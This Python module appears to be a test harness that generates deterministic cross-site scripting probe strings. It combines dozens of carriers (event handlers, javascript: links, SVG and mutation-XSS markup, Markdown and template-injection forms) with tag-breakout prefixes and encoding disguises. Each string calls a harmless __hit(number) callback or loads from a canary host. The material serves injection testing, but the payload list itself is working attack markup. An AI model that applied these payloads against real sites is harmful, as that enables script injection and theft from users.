"""A generator of hostile strings: thousands, always the same, each calling ``__hit(number)`` if it is ever run.

A string is an act (what runs) in a carrier (the markup that would run it), behind a way out (what it tries to leave),
in a disguise (how it hides). Acts carry the number of their string, so that a hit tells which one, hence which field.
"""

from __future__ import annotations

from collections.abc import Iterator
from html import escape
from itertools import product
from typing import Final
from urllib.parse import quote

CANARY: Final = "https://canari.example/"
"""Where nothing may be asked."""

CARRIERS: Final = (
    "<script>{act}</script>",
    '<img src="x" onerror="{act}">',
    "<img src=x onerror={act}>",
    "<svg onload={act}>",
    "<svg/onload={act}//",
    "<svg><script>{act}</script></svg>",
    '<svg><a xlink:href="javascript:{act}"><text>x</text></a></svg>',
    "<svg><animate onbegin={act} attributeName=x dur=1s>",
    '<details open ontoggle="{act}">x</details>',
    "<input autofocus onfocus={act}>",
    "<video><source onerror={act}></video>",
    "<audio src=x onerror={act}></audio>",
    '<iframe srcdoc="&lt;script&gt;parent.{act}&lt;/script&gt;"></iframe>',
    '<iframe src="javascript:parent.{act}"></iframe>',
    '<object data="javascript:{act}"></object>',
    '<form action="javascript:{act}"><button>x</button></form>',
    '<button formaction="javascript:{act}" form=x>x</button>',
    '<a href="javascript:{act}">x</a>',
    '<a href="java&#9;script:{act}">x</a>',
    '<b onmouseover="{act}" onclick="{act}" onpointerenter="{act}">x</b>',
    "<style>@keyframes k{{}}</style><b style='animation-name:k' onanimationstart={act}>x</b>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={act}&gt;">',
    '<noscript><p title="</noscript><img src=x onerror={act}>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={act}>",
    "<template shadowrootmode=open><script>{act}</script></template>",
    "<xss contenteditable autofocus onfocus={act} tabindex=1>x</xss>",
    '<img src="{canary}{number}.png">',
    '<link rel=stylesheet href="{canary}{number}.css">',
    '<style>@import "{canary}{number}.css";</style>',
    '<meta http-equiv="refresh" content="0;url={canary}{number}">',
    '<base href="{canary}"><script src="{number}.js"></script>',
    '<script src="{canary}{number}.js"></script>',
    '<b style="background:url({canary}{number}.png)">x</b>',
    "[x](javascript:{act})",
    "[x](JaVaScRiPt:{act})",
    "[x](java\tscript:{act})",
    "[x](&#106;avascript:{act})",
    "[x](<javascript:{act}>)",
    "[x](data:text/html,<script>{act}</script>)",
    "[x](vbscript:{act})",
    '[x](https://exemple.fr "a\\" onmouseover=\\"{act}")',
    "[x](https://exemple.fr/\"onmouseover='{act}')",
    "<https://exemple.fr/\"onclick='{act}'>",
    "<javascript:{act}>",
    "![x]({canary}{number}.png)",
    '![x](x" onerror="{act})',
    "[x]: javascript:{act}",
    "x {{: onclick={act} }}",
    "# x {{#y onclick={act}}}",
    "```\n<img src=x onerror={act}>\n```",
    "    <img src=x onerror={act}>",
    "| a |\n|---|\n| <img src=x onerror={act}> |",
    '*[x]: "><img src=x onerror={act}>',
    '--8<-- "/etc/passwd"<img src=x onerror={act}>',
    " onmouseover={act} onclick={act} x=",
    " autofocus tabindex=1 onfocus={act} x=",
    " style=animation-name:k onanimationstart={act} x=",
    "javascript:{act}",
    "javascript://exemple.fr/%0a{act}",
    "{{{{ 7191*7 }}}}{{{{constructor.constructor('{act}')()}}}}",
    "{{% raw %}}{{{{ ''.__class__ }}}}<img src=x onerror={act}>",
    "${{{act}}}`;{act};//",
    "';{act};//\";{act};//",
    '#eval("7191*7") #(7191*7) $x$ <img src=x onerror={act}>',
    '=HYPERLINK("{canary}{number}")<img src=x onerror={act}>',
)
WAYS_OUT: Final = (
    "", '">', "'>", '" ', "' ", "</title>", "</script>", "</textarea>", "</style>", "-->", "]]>", "</p></section>",
    "</select></option>", "</template></noscript>", "</svg></math>",
)  # fmt: skip
DISGUISES: Final = ("as it is", "entities", "twice", "percent", "javascript", "wide", "capitals")


def hostile(number: int) -> str:
    """The string of a number; those beyond the last begin again with another number to tell."""
    carrier, way, disguise = _COMBINED[number * 1009 % len(_COMBINED)]  # a prime step: neighbours differ
    text = way + carrier.format(act=f"__hit({number})", number=number, canary=CANARY)
    return _disguised(text, disguise)


def _disguised(text: str, disguise: str) -> str:
    match disguise:
        case "entities":
            return escape(text)
        case "twice":
            return escape(escape(text))
        case "percent":
            return quote(text, safe="")
        case "javascript":
            return text.replace("<", "\\u003c").replace(">", "\\x3e")
        case "wide":
            return text.replace("<", "\uff1c").replace(">", "\uff1e").replace("s", "\u017f")
        case "capitals":
            return text.replace("script", "ScRiPt").replace("onerror", "OnErRoR").replace("<img ", "<IMG/\u3000")
        case _:
            return text


def sure(number: int) -> str:
    """A short string that runs wherever nothing escapes it, in a text or in an attribute."""
    return f'"><img src=x onerror=__hit({number})>'


_COMBINED: Final = tuple(product(CARRIERS, WAYS_OUT, DISGUISES))
VARIETY: Final = len(_COMBINED)


def strings(first: int, number: int) -> Iterator[str]:
    """The ``number`` strings from ``first`` on."""
    return (hostile(one) for one in range(first, first + number))
